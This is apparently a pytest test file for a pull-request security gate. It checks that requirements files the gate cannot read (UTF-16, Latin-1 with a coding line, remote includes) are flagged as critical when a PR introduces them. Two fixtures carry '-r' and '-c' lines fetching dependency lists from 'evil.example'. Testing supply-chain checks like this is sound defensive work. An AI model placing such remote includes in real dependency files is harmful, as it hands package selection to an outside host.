"""Sixth review, R6b-5: a dependency file the pull request adds or changes that the gate cannot read
passed at the default policy (`deps/unreadable-file` was high), yet pip installs what it names: pip
decodes UTF-16 by its byte-order mark, honours a PEP 263 coding line, has no size limit, and fetches
a `-r https://...` include. Unread is now unjudged, and unjudged in the PR's own change blocks."""

from __future__ import annotations

from pathlib import Path

import pytest
from sec_support import PrRepo, assert_no_defect, check

OSV = Path(__file__).resolve().parents[3] / "shared" / "data" / "osv-pypi"
PINS = "requests==2.31.0\ndjango==1.2\n"
BASE: dict[str, str | bytes] = {"requirements.txt": "requests==2.31.0\n", "README.md": "# app\n"}
CASES: dict[str, bytes] = {
    "UTF-16 with a byte-order mark": PINS.encode("utf-16"),
    "UTF-16 big-endian with a byte-order mark": b"\xfe\xff" + PINS.encode("utf-16-be"),
    "Latin-1 with a coding line": ("# -*- coding: latin-1 -*-\n# café\n" + PINS).encode("latin-1"),
    "a remote include": b"requests==2.31.0\n-r https://evil.example/pins.txt\n",
    "a remote constraints file": b"requests==2.31.0\n-c https://evil.example/constraints.txt\ndjango\n",
}


@pytest.mark.skipif(not OSV.is_dir(), reason="../shared/data/osv-pypi is absent")
@pytest.mark.parametrize("case", sorted(CASES))
def test_a_dependency_file_the_pr_makes_unreadable_blocks(tmp_path: Path, case: str) -> None:
    repo = PrRepo.make(tmp_path / "ws", BASE, {"requirements.txt": CASES[case]})
    done = check(repo.path, "--base", repo.base, "--gates", "deps", "--offline-db", str(OSV), home=tmp_path)
    assert_no_defect(done)
    found = done.findings("deps/unreadable-file")
    assert found and all(f["severity"] == "critical" and f["introduced"] for f in found), done.findings()
    assert done.code == 1


@pytest.mark.skipif(not OSV.is_dir(), reason="../shared/data/osv-pypi is absent")
def test_an_unreadable_file_the_pr_leaves_alone_stays_high(tmp_path: Path) -> None:
    base = {**BASE, "requirements-legacy.txt": PINS.encode("utf-16")}
    repo = PrRepo.make(tmp_path / "ws", base, {"README.md": "# app, again\n"})
    done = check(repo.path, "--base", repo.base, "--gates", "deps", "--offline-db", str(OSV), home=tmp_path)
    assert_no_defect(done)
    (found,) = done.findings("deps/unreadable-file")
    assert found["severity"] == "high" and not found["introduced"], found
    assert done.code == 0
